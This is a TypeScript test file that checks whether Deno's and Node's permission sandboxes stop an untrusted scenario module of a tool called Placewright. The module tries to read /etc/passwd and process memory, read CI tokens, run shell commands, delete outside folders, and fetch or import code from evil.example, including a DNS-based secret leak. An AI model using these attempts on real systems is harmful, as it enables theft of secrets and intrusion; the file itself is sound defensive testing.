import { execFile } from "node:child_process";
import { mkdtemp, readFile, realpath, rm, writeFile } from "node:fs/promises";
import { type AddressInfo, createServer, type Server } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { makeProject } from "../support/project-folder.ts";
import { isDeno, projectRoot } from "../support/run-cli.ts";

/** Code that a scenario module tries to run; its value is awaited. `ok` marks attempts that must succeed. */
interface Attempt {
  readonly code: string;
  readonly ok?: true;
}

const reading: Readonly<Record<string, Attempt>> = {
  "reads its project": { code: 'fs.readFileSync("placewright.config.ts", "utf8")', ok: true },
  "reads a file of the system": { code: 'fs.readFileSync("/etc/passwd", "utf8")' },
  "reads a file of the system, by promises": { code: 'fs.promises.readFile("/etc/passwd", "utf8")' },
  "reads a file of the system, by a stream": {
    code: 'new Promise((done, fail) => fs.createReadStream("/etc/passwd").on("data", done).on("error", fail))',
  },
  "reads outside its project": { code: "fs.readFileSync(outside + '/secret.txt', 'utf8')" },
  "reads outside its project through a parent folder": {
    code: "fs.readFileSync('scenarios/../../' + outside.split('/').at(-1) + '/secret.txt', 'utf8')",
  },
  "lists a folder outside its project": { code: "fs.readdirSync(outside)" },
  "opens a file outside its project": { code: "fs.openSync(outside + '/secret.txt', 'r')" },
  "copies a file into its reports": {
    code: "fs.copyFileSync(outside + '/secret.txt', 'reports/stolen.txt')",
  },
  "links a file into its reports": { code: "fs.symlinkSync(outside + '/secret.txt', 'reports/link.txt')" },
  "links a file hard into its reports": { code: "fs.linkSync(outside + '/secret.txt', 'reports/hard.txt')" },
  // Both runtimes follow such a link, but a scenario cannot create one.
  "reads by a link that people put into its project": {
    code: "fs.readFileSync('link-to-secret.txt', 'utf8')",
    ok: true,
  },
  "reads the memory of its process": { code: "fs.readFileSync('/proc/self/environ', 'utf8')" },
};

const writing: Readonly<Record<string, Attempt>> = {
  "writes into its reports": {
    code: 'fs.mkdirSync("reports", { recursive: true }), fs.writeFileSync("reports/own.txt", "x"), "done"',
    ok: true,
  },
  "writes outside its project": { code: "fs.writeFileSync(outside + '/planted.txt', 'x')" },
  "changes a file outside its project": { code: "fs.appendFileSync(outside + '/secret.txt', 'x')" },
  "changes its own scenario": { code: "fs.appendFileSync('scenarios/attempts.mjs', '//')" },
  "changes the config": { code: "fs.writeFileSync('placewright.config.ts', 'x')" },
  "plants a package": { code: "fs.mkdirSync('node_modules/planted', { recursive: true })" },
  "moves an outside file": { code: "fs.renameSync(outside + '/secret.txt', 'reports/secret.txt')" },
  "removes a folder": { code: "fs.rmSync(outside, { recursive: true })" },
  "opens a file to all": { code: "fs.chmodSync(outside + '/secret.txt', 0o666)" },
};

const running: Readonly<Record<string, Attempt>> = {
  "runs a program": { code: "child.execFileSync('id').toString()" },
  "runs a shell": { code: "child.execSync('id').toString()" },
  "runs a program in the background": {
    code: "new Promise((done, fail) => child.spawn('id').on('error', fail).on('spawn', () => done('spawned')))",
  },
  "runs itself again": { code: "child.execFileSync(process.execPath, ['--version']).toString()" },
};

/** Attempts that only Deno's permissions restrict. */
const onlyDeno: Readonly<Record<string, Attempt>> = {
  "connects to this machine": { code: "connect('127.0.0.1', port)", ok: true },
  "connects to another address": { code: "connect('127.0.0.2', port)" },
  "connects to another network": { code: "connect('192.0.2.1', 25)" },
  "fetches from another address": { code: "fetch('http://127.0.0.2:' + port)" },
  "fetches from a name that looks like Amazon's": { code: "fetch('https://amazonaws.com.evil.example')" },
  "fetches from another port of Amazon's": { code: "fetch('http://email.eu-west-1.amazonaws.com')" },
  "sends a secret by a name": {
    code: "import('node:dns').then(({ promises }) => promises.resolveTxt('secret.evil.example'))",
  },
  "listens on every address": { code: "Deno.listen({ hostname: '0.0.0.0', port: 0 })" },
  "imports code from elsewhere": { code: "import('https://evil.example/x.js')" },
  "loads a native library": {
    code: "Deno.dlopen('libc.so.6', { getpid: { parameters: [], result: 'i32' } })",
  },
  "loads a native module": { code: "process.dlopen({ exports: {} }, outside + '/planted.node')" },
  "ends another process": { code: "process.kill(parent, 0) && 'reached'" },
  "reads a token of the CI service": {
    code: "process.env.GITHUB_TOKEN ?? (() => { throw new Error('absent') })()",
  },
  "reads a token by Deno": { code: "Deno.env.get('NPM_TOKEN') ?? (() => { throw new Error('absent') })()" },
  "finds a token among all variables": {
    code: "Object.values(process.env).find((value) => String(value).includes('token-of-ci')) ?? (() => { throw new Error('absent') })()",
  },
  "reads Placewright's settings": { code: "process.env.PLACEWRIGHT_BRANCH", ok: true },
  "runs a program by Deno": { code: "new Deno.Command('id').outputSync()" },
  "reads by Deno": { code: "Deno.readTextFileSync(outside + '/secret.txt')" },
  "asks for more": {
    code: "Deno.permissions.requestSync({ name: 'run' }).state === 'granted' || (() => { throw new Error('denied') })()",
  },
};

const scenarioOf = (attempts: Readonly<Record<string, Attempt>>): string => `
import fs from "node:fs";
import child from "node:child_process";
import net from "node:net";
import { defineScenario, simple } from "placewright";
const { outside, port, parent } = JSON.parse(fs.readFileSync("scenarios/data/given.json", "utf8"));
const connect = (host, port) => new Promise((done, fail) => {
  const socket = net.connect(port, host).on("error", fail).on("connect", () => { socket.destroy(); done("connected"); });
});
const seen = {};
const attempts = {
${Object.entries(attempts)
  .map(([name, { code }]) => `  ${JSON.stringify(name)}: async () => (${code}),`)
  .join("\n")}
};
void [child, net, outside, port, parent, connect];
for (const [name, attempt] of Object.entries(attempts)) {
  try { seen[name] = { value: String(await attempt()).slice(0, 100) }; }
  catch (error) { seen[name] = { error: String(error?.message ?? error).slice(0, 200) }; }
}
console.log("SEEN " + JSON.stringify(seen));
export default defineScenario({
  name: "attempts",
  from: "Acme <news@acme.example>",
  message: simple({ subject: "Your order", text: "Thank you. Your order of ten tulips is on its way." }),
  expect: { overall: ["inbox >= 1"] },
});
`;

type Seen = Readonly<Record<string, { readonly value?: string; readonly error?: string }>>;

interface Tried {
  readonly seen: Seen;
  readonly output: string;
  readonly code: number;
}

/** Runs a command in a project whose scenario makes these attempts. */
async function tryAll(
  attempts: Readonly<Record<string, Attempt>>,
  command: (dir: string) => readonly string[],
): Promise<Tried & { close(): Promise<void>; readonly outside: string }> {
  const outside = await realpath(await mkdtemp(join(tmpdir(), "placewright-outside-")));
  await writeFile(join(outside, "secret.txt"), "the secret outside the project");
  const server: Server = createServer((socket) => socket.on("error", () => {}));
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  const { dir, remove } = await makeProject({
    "placewright.config.ts":
      'export default { projects: [{ name: "local", provider: "local", completeAfter: 0 }], check: { failOn: "never" } };\n',
    "scenarios/attempts.mjs": scenarioOf(attempts),
    "scenarios/data/given.json": JSON.stringify({ outside, port, parent: process.pid }),
  });
  const { symlink } = await import("node:fs/promises");
  await symlink(join(outside, "secret.txt"), join(dir, "link-to-secret.txt"));
  const [program = "", ...args] = command(await realpath(dir));
  const env = {
    PATH: process.env["PATH"] ?? "",
    HOME: process.env["HOME"] ?? "",
    ...(process.env["DENO_DIR"] ? { DENO_DIR: process.env["DENO_DIR"] } : {}),
    NO_COLOR: "1",
    GITHUB_TOKEN: "a-token-of-ci",
    NPM_TOKEN: "another-token-of-ci",
    PLACEWRIGHT_BRANCH: "main",
  };
  const { code, output } = await new Promise<{ code: number; output: string }>((resolve) =>
    execFile(program, args, { cwd: dir, env }, (error, stdout, stderr) =>
      resolve({ code: error ? Number(error.code) : 0, output: `${stdout}\n${stderr}` }),
    ),
  );
  const line = /^SEEN (.*)$/m.exec(output)?.[1];
  return {
    seen: line === undefined ? {} : (JSON.parse(line) as Seen),
    output,
    code,
    outside,
    async close() {
      await remove();
      await rm(outside, { recursive: true, force: true });
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

const entries = (attempts: Readonly<Record<string, Attempt>>) =>
  Object.entries(attempts).map(([name, { ok = false }]) => ({ name, ok }));

const judge = (
  { seen, output }: Tried,
  { name, ok }: { readonly name: string; readonly ok: boolean },
): void => {
  expect(seen[name], output).toBeDefined();
  if (ok) expect(seen[name]?.error).toBeUndefined();
  else {
    expect(seen[name]?.value).toBeUndefined();
    // The runtime must have stopped the attempt; a coding error in the attempt does not count.
    expect(seen[name]?.error).not.toMatch(/is not defined|is not a function|undefined/);
  }
};

describe("Deno's task with narrow permissions", () => {
  const attempts = { ...reading, ...writing, ...running, ...onlyDeno };
  let tried: Awaited<ReturnType<typeof tryAll>>;
  let task = "";

  beforeAll(async () => {
    const { tasks } = JSON.parse(await readFile(join(projectRoot, "deno.json"), "utf8")) as {
      tasks: Record<string, string>;
    };
    task = tasks["narrow"] ?? "";
    const deno = isDeno ? process.execPath : join(projectRoot, "node_modules/.bin/deno");
    const root = projectRoot.replace(/\/$/, "");
    // The task runs in the checkout. Here, Placewright is outside the project, like an installed package.
    const flags = task
      .replace(/^env deno run /, "")
      .replace(
        "--allow-read=.",
        `--allow-read=.,${root}/src,${root}/node_modules,${root}/package.json,${root}/deno.json`,
      )
      .replace("--allow-ffi=node_modules", `--allow-ffi=${root}/node_modules`)
      .replace("src/cli/main.ts", `${root}/src/cli/main.ts`)
      .split(" ");
    const [run = "", ...rest] = ["run", `--config=${root}/deno.json`, ...flags];
    tried = await tryAll(attempts, () => [deno, run, ...rest]);
  });
  afterAll(() => tried?.close());

  test.each(entries(attempts))("a scenario that $name: allowed is $ok", (attempt) => judge(tried, attempt));

  test("still measures", () => {
    expect(tried.output).toMatch(/1 passed/);
    expect(tried.code, tried.output).toBe(0);
  });

  test("leaves everything outside the project unchanged", async () => {
    expect(await readFile(join(tried.outside, "secret.txt"), "utf8")).toBe("the secret outside the project");
  });

  test.each(["-A", "--allow-all", "--allow-run", "--allow-import", "--allow-scripts"])(
    "does not have %s",
    (flag) => {
      expect(task).not.toMatch(new RegExp(`(^| )${flag}\\b`));
    },
  );

  test.each(["read", "write", "net", "env", "sys", "ffi"])("names what --allow-%s allows", (name) => {
    expect(task).toMatch(new RegExp(` --allow-${name}=\\S`));
  });

  test("equals the documented task", async () => {
    const page = (await readFile(join(projectRoot, "docs/security.md"), "utf8")).replace(/\\\n\s*/g, "");
    for (const flag of task.split(" ").filter((word) => word.startsWith("--"))) {
      const [name] = flag.split("=");
      expect(page).toContain(name);
    }
    expect(page).toContain("deno task narrow");
  });
});

const nodeMajor = isDeno ? 0 : Number(process.versions.node.split(".")[0]);

describe.skipIf(nodeMajor < 24)("Node's permission model (skipped before Node 24)", () => {
  const attempts = { ...reading, ...writing, ...running };
  let tried: Awaited<ReturnType<typeof tryAll>>;

  beforeAll(async () => {
    const root = projectRoot.replace(/\/$/, "");
    tried = await tryAll(attempts, (dir) => [
      process.execPath,
      "--permission",
      `--allow-fs-read=${dir}`,
      ...["dist", "node_modules", "package.json"].map((path) => `--allow-fs-read=${root}/${path}`),
      `--allow-fs-write=${dir}/reports`,
      `--allow-fs-write=${dir}/reports/*`,
      `${root}/dist/cli/main.js`,
      "check",
    ]);
  });
  afterAll(() => tried?.close());

  test.each(entries(attempts))("a scenario that $name: allowed is $ok", (attempt) => judge(tried, attempt));

  test("still checks", () => {
    expect(tried.output).toMatch(/0 errors/);
    expect(tried.code, tried.output).toBe(0);
  });
});
